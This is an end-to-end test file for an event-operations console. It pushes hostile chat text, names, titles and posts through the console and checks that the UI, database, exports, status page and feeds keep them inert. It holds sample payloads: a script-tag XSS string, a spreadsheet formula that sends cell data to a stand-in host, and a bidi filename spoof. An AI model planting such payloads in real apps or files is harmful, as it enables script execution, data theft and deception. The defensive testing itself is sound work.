/**
 * Hostile text through the real console (tests/e2e/hostile-corpus.ts): pushed by a socket.io source as chat
 * lines and names, typed by an operator as their name, incident titles and a post, then looked for
 * everywhere it lands. It must be inert in the UI (no script runs, no element appears, names cannot flip
 * their neighbours), stored byte for byte or refused with a reason in SQLite (the real file, queried), inert
 * in every export (HTML, Markdown, CSV, JSON that round-trips through an import) and on the public status page
 * and its Atom and RSS feeds (parsed by the browser's own XML parser). And after a flood of it, a click still
 * answers within a bound.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase, type Db } from '../../electron/main/services/db/open';
import { ARTIFACTS, launchBrowser, shot } from '../support/browser';
import { poll } from '../support/poll';
import { startConsoleProcess, type ConsoleProcess } from '../support/web-console-process';
import { AUTHORS, EVENT_NAME, LONE_SURROGATES, OPERATOR, PWNED, REFUSED, TEXTS } from './hostile-corpus';
import { chatAt, sampleAt, startHostileSource, type HostileSource } from './hostile-source';

const FLOOD = 10_000;
/** A click on a loaded 2-core machine, after the flood: the console must still answer within this. */
const CLICK_BOUND_MS = 3000;
const SUBJECT = `<script>window.${PWNED}=1</script> ]]> =HYPERLINK("x") \u202Eevil`;
/** Titles typed into a one-line input: the browser drops line breaks, the console trims. */
const TITLES = TEXTS.filter((x) => x.text.length <= 200 && !/(?![\t\r\n])\p{Cc}/u.test(x.text))
  .map((x) => x.text.replace(/[\r\n]/g, '').trim())
  .filter((t) => t.length > 0);

const utf8Hex = (s: string) => Buffer.from(s, 'utf8').toString('hex').toUpperCase();

/** The text outside every bidi isolate (LRI, RLI or FSI … PDI, nested): what an override there would reorder. */
function outsideIsolates(text: string): string {
  let depth = 0;
  let out = '';
  for (const c of text) {
    if (c === '\u2066' || c === '\u2067' || c === '\u2068') depth++;
    else if (c === '\u2069' && depth > 0) depth--;
    else if (depth === 0) out += c;
  }
  return out;
}

/** RFC 4180: quoted fields may hold commas, quotes (doubled) and line breaks; records end with CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') endCell();
    else if (c === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/**
 * What an attacker's text would leave in a document: elements that run or fetch, event handlers, script links,
 * and bidi controls that reach past their own value. A right-to-left override reorders everything after it up to
 * the end of its bidi paragraph: the nearest <bdi>, isolating or block-level box, or a line break. `bidiLeaks`
 * lists the text such a control would reorder.
 */
const ACTIVE = `() => {
  const all = [...document.querySelectorAll('*')];
  const BIDI = /[\\u202A-\\u202E\\u2066-\\u2069]/;
  const isolates = (el) => {
    const cs = getComputedStyle(el);
    return el.tagName === 'BDI' || /isolate|plaintext/.test(cs.unicodeBidi) || !/^(inline|contents)$/.test(cs.display);
  };
  const bidiLeaks = [];
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let n = texts.nextNode(); n; n = texts.nextNode()) {
    if (!BIDI.test(n.data)) continue;
    let scope = n.parentElement;
    while (scope !== document.body && !isolates(scope)) scope = scope.parentElement;
    const after = document.createTreeWalker(scope, NodeFilter.SHOW_TEXT | NodeFilter.SHOW_ELEMENT);
    after.currentNode = n;
    let following = '';
    for (let m = after.nextNode(); m && !(m.nodeType === 1 && m.tagName === 'BR'); m = after.nextNode())
      if (m.nodeType === 3) following += m.data;
    if (following.trim()) bidiLeaks.push(n.data.slice(0, 40) + ' → ' + following.trim().slice(0, 60));
  }
  return {
    pwned: typeof window.${PWNED} !== 'undefined',
    handlers: all.flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => el.tagName + ' ' + a.name)),
    scriptLinks: all.filter((el) => /^\\s*javascript:/i.test(el.getAttribute('href') ?? el.getAttribute('src') ?? '')).length,
    elements: all.filter((el) => /^(script|iframe|object|embed|img|frame|frameset|base|link|style)$/i.test(el.tagName)).map((el) => el.tagName + (el.getAttribute('src') || el.getAttribute('href') ? ' ' + (el.getAttribute('src') ?? el.getAttribute('href')) : '')),
    bidiLeaks,
  };
}`;
type Active = { pwned: boolean; handlers: string[]; scriptLinks: number; elements: string[]; bidiLeaks: string[] };

describe('hostile text through the console, its store, its exports and the status page', () => {
  let source: HostileSource;
  let app: ConsoleProcess;
  let browser: Awaited<ReturnType<typeof launchBrowser>>;
  let page: Page;
  const errors: string[] = [];
  let ts: number;
  let clickMs = 0;
  let body = '';
  let statusUrl = '';

  const db = (): Db => openDatabase({ file: join(app.dataDir, 'onair.sqlite') });
  const active = (p: Page) => p.evaluate<Active>(`(${ACTIVE})()`);
  /** The review of this session (each export test opens it itself, so it passes alone). */
  const openReview = async () => {
    await page.getByTestId('tab-review').click();
    await page.locator(`[data-testid="history-item"][data-session="${source.sessionId}"]`).click();
    await expect.poll(() => page.getByTestId('timeline').isVisible(), { timeout: 15_000 }).toBe(true);
    await expect.poll(() => page.getByTestId('review-title').textContent()).toBe(EVENT_NAME);
  };
  const download = async (format: string, name: string): Promise<string> => {
    const [d] = await Promise.all([page.waitForEvent('download'), page.getByTestId(`export-${format}`).click()]);
    const file = join(ARTIFACTS, name);
    await d.saveAs(file);
    return file;
  };

  beforeAll(async () => {
    ts = Math.floor(Date.now() / 1000) * 1000;
    source = await startHostileSource({ eventName: EVENT_NAME, scenario: 'corpus', startedAt: ts });
    app = await startConsoleProcess(['--source', source.url]);
    browser = await launchBrowser();
    await poll(() => source.clients() > 0, { what: 'the console connecting to the source' });
    page = await browser.context.newPage();
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto(app.url);
    await poll(() => page.getByTestId('event-name').textContent(), {
      until: (t) => t === EVENT_NAME,
      what: 'the event',
    });

    // The flood: the whole corpus over and over, 500 lines a frame, with healthy samples alongside.
    const flood = Array.from({ length: FLOOD }, (_, i) =>
      chatAt(`flood-${i}`, ts + Math.floor(i / 10), TEXTS[i % TEXTS.length].text, AUTHORS[i % AUTHORS.length]),
    );
    for (let i = 0; i < FLOOD; i += 500) source.send('chat.batch', flood.slice(i, i + 500));
    ts += FLOOD / 10 + 1000;
    // Then each item once, newest, so it is on screen; the refused ones and the lone surrogates last.
    TEXTS.forEach((x, i) =>
      source.send('chat.message', chatAt(`corpus-${i}`, ts + i, x.text, AUTHORS[i % AUTHORS.length])),
    );
    LONE_SURROGATES.forEach((x, i) => source.send('chat.message', chatAt(`lone-${i}`, ts + 100 + i, x.text)));
    REFUSED.forEach((x, i) => source.send('chat.message', x.payload(`refused-${i}`, ts + 200 + i)));
    source.send('health.sample', sampleAt(ts + 300));
    ts += 1000;
    await poll(async () => Number((await page.getByTestId('chat-count').textContent())?.replace(/\D/g, '')), {
      until: (n) => n >= FLOOD + TEXTS.length,
      timeoutMs: 60_000,
      what: 'the flood stored',
    });

    // A click right after the flood still answers.
    await page.getByTestId('manual-title').fill('After the flood');
    const t0 = performance.now();
    await page.getByTestId('open-manual').click();
    await page.locator('[data-testid="incident-card"]', { hasText: 'After the flood' }).waitFor();
    clickMs = performance.now() - t0;

    // The operator: a hostile name, hostile incident titles, a post made of the whole corpus.
    await page.getByTestId('operator').fill(OPERATOR);
    for (const title of TITLES) {
      await page.getByTestId('manual-title').fill(title);
      await page.getByTestId('open-manual').click();
      await poll(() => page.getByTestId('manual-title').inputValue(), { until: (v) => v === '', what: title });
    }
    await page.getByTestId('tab-settings').click();
    await page.getByTestId('field-status-page-publicUrl').fill('https://status.example.com/');
    await page.getByTestId('save-status-page').click();
    await poll(() => page.getByTestId('msg-status-page').textContent(), {
      until: (m) => m === 'Saved.',
      what: 'saved',
    });
    await page.getByTestId('tab-live').click();
    const card = page.locator('[data-testid="incident-card"]', { hasText: TITLES[0] }).first();
    await card.getByTestId('compose-update').click();
    await poll(() => page.getByTestId('composer-body').inputValue(), { what: 'the drafted update' });
    await page.getByTestId('composer-subject').fill(SUBJECT);
    await page.getByTestId('composer-body').fill(TEXTS.map((x) => x.text).join('\n'));
    body = await page.getByTestId('composer-body').inputValue();
    await poll(() => page.getByTestId('checklist-row').count(), { until: (n) => n === 2, what: 'the checklist' });
    await page.getByTestId('composer-send').click();
    await poll(() => page.locator('[data-testid="outbox-row"][data-status="sent"]').count(), {
      until: (n) => n === 2,
      timeoutMs: 30_000,
      what: 'both posts sent',
    });
    await page.screenshot({ path: shot('hostile-composer') });
    await page.getByTestId('composer-close').click();
    await page.getByTestId('tab-settings').click();
    statusUrl = (await page.getByTestId('status-page-link').getAttribute('href'))!;
    await page.getByTestId('tab-live').click();
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    await app?.stop();
    await source?.close();
  }, 60_000);

  it('stores every chat line and name byte for byte, and refuses the malformed ones with a reason', () => {
    const d = db();
    try {
      const row = d.prepare(
        'SELECT text, hex(text) AS textHex, author, hex(author) AS authorHex FROM chat_messages WHERE session_id = ? AND source_id = ?',
      );
      TEXTS.forEach((x, i) => {
        const r = row.get(source.sessionId, `corpus-${i}`) as Record<string, string> | undefined;
        expect(r, x.name).toBeDefined();
        expect(r!.textHex, x.name).toBe(utf8Hex(x.text));
        expect(r!.text, x.name).toBe(x.text);
        expect(r!.authorHex, x.name).toBe(utf8Hex(AUTHORS[i % AUTHORS.length]));
      });
      const flood = d
        .prepare("SELECT COUNT(*) AS n FROM chat_messages WHERE session_id = ? AND source_id LIKE 'flood-%'")
        .get(source.sessionId) as { n: number };
      expect(flood.n).toBe(FLOOD);
      const quarantined = d.prepare('SELECT reason FROM quarantine WHERE payload LIKE ?');
      REFUSED.forEach((x, i) => {
        expect(row.get(source.sessionId, `refused-${i}`), x.name).toBeUndefined();
        const q = quarantined.all(`%"id":"refused-${i}"%`) as { reason: string }[];
        expect(q, x.name).toHaveLength(1);
        expect(q[0].reason, x.name).toMatch(new RegExp(`\\b${x.field}\\b`));
      });
    } finally {
      d.close();
    }
  }, 60_000);

  it('refuses a lone surrogate with a reason, or stores it as U+FFFD; never as bytes that are not UTF-8', () => {
    const d = db();
    try {
      LONE_SURROGATES.forEach((x, i) => {
        const r = d
          .prepare('SELECT text, hex(text) AS hex FROM chat_messages WHERE session_id = ? AND source_id = ?')
          .get(source.sessionId, `lone-${i}`) as { text: string; hex: string } | undefined;
        if (r) {
          const replaced = x.text.replace(/\p{Surrogate}/gu, '\uFFFD');
          expect(r.hex, x.name).toBe(utf8Hex(replaced));
          expect(r.text, x.name).toBe(replaced);
        } else {
          const q = d.prepare('SELECT reason FROM quarantine WHERE payload LIKE ?').all(`%"id":"lone-${i}"%`);
          expect(q, x.name).toHaveLength(1);
        }
      });
    } finally {
      d.close();
    }
  }, 60_000);

  it('shows all of it as text: no script runs, no element appears, names are bidi islands, clicks answer', async () => {
    expect(clickMs, `open an incident after a flood of ${FLOOD} lines`).toBeLessThan(CLICK_BOUND_MS);
    console.log(`click after the flood of ${FLOOD.toLocaleString()} hostile lines: ${clickMs.toFixed(0)} ms`);
    await page.reload(); // what is shown now comes from SQLite (the live snapshot)
    await expect.poll(() => page.getByTestId('event-name').textContent(), { timeout: 15_000 }).toBe(EVENT_NAME);
    await expect.poll(() => page.locator('.chat-text').count(), { timeout: 10_000 }).toBeGreaterThan(20);
    const shown = await page.locator('.chat-text').allTextContents();
    for (const x of TEXTS) expect(shown, x.name).toContain(x.text);
    const titles = await page.locator('.incident-title').allTextContents();
    for (const t of TITLES) expect(titles).toContain(t);
    expect(await page.getByTestId('operator').inputValue()).toBe(OPERATOR);
    const a = await active(page);
    // Only the console's own bundle, styles and icon, as index.html lists them.
    expect(a.elements.map((e) => e.replace(/-[\w-]+\.(js|css|svg)$/, '.$1'))).toEqual([
      'LINK ./assets/favicon.svg',
      'SCRIPT ./assets/index.js',
      'LINK ./assets/index.css',
    ]);
    expect({ ...a, elements: [] }).toEqual({ pwned: false, handlers: [], scriptLinks: 0, elements: [], bidiLeaks: [] });
    expect(
      await page
        .locator('.chat-text')
        .first()
        .evaluate((el) => getComputedStyle(el).unicodeBidi),
    ).toBe('isolate');
    expect(
      await page
        .locator('.chat-author')
        .first()
        .evaluate((el) => getComputedStyle(el).unicodeBidi),
    ).toBe('isolate');
    expect(await page.getByTestId('panel-failed').count()).toBe(0);
    await page.screenshot({ path: shot('hostile-live') });
    expect(errors).toEqual([]);
  }, 60_000);

  it('publishes the post inert on the status page, and both feeds parse as XML with the text intact', async () => {
    const get = async (path: string) => {
      const res = await fetch(`${statusUrl}${path}`);
      expect(res.status, path).toBe(200);
      return res.text();
    };
    const [html, atom, rss] = [await get('/'), await get('/feed.atom'), await get('/feed.rss')];
    const status = await browser.context.newPage();
    await status.goto(statusUrl);
    expect(await active(status)).toEqual({
      pwned: false,
      handlers: [],
      scriptLinks: 0,
      elements: ['LINK feed.atom', 'LINK feed.rss', 'STYLE'],
      bidiLeaks: [],
    });
    const article = (await status.locator('article').first().textContent()) ?? '';
    expect(article).toContain('<script>window.__pwned=1</script>');
    expect(article).toContain('=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"click me")');
    await status.screenshot({ path: shot('hostile-status-page'), fullPage: true });
    expect(html).toContain('&lt;script&gt;');

    for (const [name, xml, entry, text] of [
      ['atom', atom, 'entry', 'summary'],
      ['rss', rss, 'item', 'description'],
    ] as const) {
      writeFileSync(join(ARTIFACTS, `hostile-feed.${name}`), xml);
      const parsed = await status.evaluate(
        ([xml, entry, text]) => {
          const doc = new DOMParser().parseFromString(xml, 'application/xml');
          const error = doc.getElementsByTagName('parsererror')[0]?.textContent ?? null;
          const item = doc.getElementsByTagName(entry)[0];
          const html = item?.getElementsByTagName(text)[0]?.textContent ?? '';
          const title = item?.getElementsByTagName('title')[0]?.textContent ?? '';
          // Feed readers render the entry as HTML: parse it as they would, and see what is in it.
          const inner = new DOMParser().parseFromString(html, 'text/html');
          const tags = [...inner.body.querySelectorAll('*')].map((el) => el.tagName);
          const titleText = new DOMParser().parseFromString(title, 'text/html').body.textContent;
          return { error, tags: [...new Set(tags)], text: inner.body.textContent, titleText };
        },
        [xml, entry, text] as const,
      );
      expect(parsed.error, name).toBeNull();
      expect(
        parsed.tags.filter((t) => t !== 'P' && t !== 'BR'),
        name,
      ).toEqual([]);
      expect(parsed.text, name).toContain('<script>window.__pwned=1</script>');
      expect(parsed.text, name).toContain('👩‍👩‍👧‍👦');
      expect(parsed.text, name).toContain('invoice\u202Efdp.exe');
      expect(parsed.titleText, name).toContain('<script>window.__pwned=1</script>');
    }
    await status.close();
  }, 60_000);

  it('exports an HTML report with no active content and the text shown as text', async () => {
    await openReview();
    expect((await active(page)).bidiLeaks, 'the review').toEqual([]);
    const file = await download('html', 'hostile-report.html');
    const report = await browser.context.newPage();
    await report.goto(`file://${file}`);
    expect(await active(report)).toEqual({
      pwned: false,
      handlers: [],
      scriptLinks: 0,
      elements: ['STYLE'],
      bidiLeaks: [],
    });
    const text = (await report.locator('body').textContent()) ?? '';
    expect(text).toContain(EVENT_NAME);
    expect(text).toContain(OPERATOR);
    for (const t of TITLES) expect(text).toContain(t);
    expect(text).toContain('<script>window.__pwned=1</script>');
    await report.screenshot({ path: shot('hostile-report'), fullPage: false });
    await report.close();
  }, 60_000);

  it('exports a CSV in which no text cell can start a formula', async () => {
    await openReview();
    const rows = parseCsv(readFileSync(await download('csv', 'hostile-timeline.csv'), 'utf8'));
    const header = rows[0];
    expect(header).toEqual(['ts', 'type', 'incident', 'channel', 'status', 'author', 'text']);
    for (const r of rows.slice(1)) {
      expect(r, r.join(' | ')).toHaveLength(header.length);
      for (const cell of r) if (/^[=+\-@\t\r]/.test(cell)) expect(cell, 'a formula').toMatch(/^-?\d+(\.\d+)?$/);
    }
    const authors = rows.slice(1).map((r) => r[5]);
    expect(authors).toContain(`'${OPERATOR}`);
    expect(rows.slice(1).some((r) => r[6].includes(TITLES[0]))).toBe(true);
  }, 60_000);

  it('exports Markdown that neither injects HTML, links nor table columns', async () => {
    await openReview();
    const md = readFileSync(await download('markdown', 'hostile-report.md'), 'utf8');
    expect(md).not.toMatch(/<[a-z!/?]/i); // no raw tag, comment or processing instruction
    expect(md).not.toMatch(/(?<!\\)\]\(/); // no link or image: every ] is escaped
    const lines = md.split('\n');
    const pipes = (l: string) => (l.match(/(?<!\\)\|/g) ?? []).length;
    let columns = 0;
    for (const l of lines) {
      if (!l.startsWith('|')) columns = 0;
      else if (columns === 0) columns = pipes(l);
      else expect(pipes(l), l).toBe(columns);
    }
    expect(md).toContain('&lt;script&gt;');
    expect(md).toContain('\\=HYPERLINK');
    // A bidi control stays inside the FSI … PDI isolate around its own value.
    expect(outsideIsolates(md)).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
  }, 60_000);

  it('exports JSON that holds every text exactly and round-trips through an import', async () => {
    await openReview();
    const exported = JSON.parse(readFileSync(await download('json', 'hostile-event.json'), 'utf8')) as {
      session: { id: string; eventName: string };
      chat: { id: string; author: string; text: string }[];
      incidents: { title: string }[];
      posts: { text: string; subject?: string; channel: string }[];
      exportedAt: number;
    };
    expect(exported.session.eventName).toBe(EVENT_NAME);
    const byId = new Map(exported.chat.map((m) => [m.id, m]));
    TEXTS.forEach((x, i) => {
      expect(byId.get(`corpus-${i}`)?.text, x.name).toBe(x.text);
      expect(byId.get(`corpus-${i}`)?.author, x.name).toBe(AUTHORS[i % AUTHORS.length]);
    });
    for (const t of TITLES) expect(exported.incidents.map((i) => i.title)).toContain(t);
    const status = exported.posts.find((p) => p.channel === 'status-page')!;
    // The status page adds its own link after the text as written.
    expect(status.text.slice(0, body.trim().length)).toBe(body.trim());
    expect(status.subject).toBe(SUBJECT);

    await page.getByTestId('import-file').setInputFiles(join(ARTIFACTS, 'hostile-event.json'));
    await expect
      .poll(() => page.getByTestId('review-msg').textContent(), { timeout: 20_000 })
      .toBe(`Imported ${EVENT_NAME}`);
    await expect.poll(() => page.getByTestId('review-title').textContent(), { timeout: 15_000 }).toBe(EVENT_NAME);
    await expect.poll(() => page.locator('[data-testid="history-item"][data-session^="imported:"]').count()).toBe(1);
    const again = JSON.parse(
      readFileSync(await download('json', 'hostile-event-reimported.json'), 'utf8'),
    ) as typeof exported;
    expect(again.session.id).toBe(`imported:${exported.session.id}`);
    expect(again.chat).toEqual(exported.chat);
    expect(again.incidents).toEqual(exported.incidents);
    expect(again.posts).toEqual(exported.posts);
    expect(errors).toEqual([]);
  }, 60_000);
});
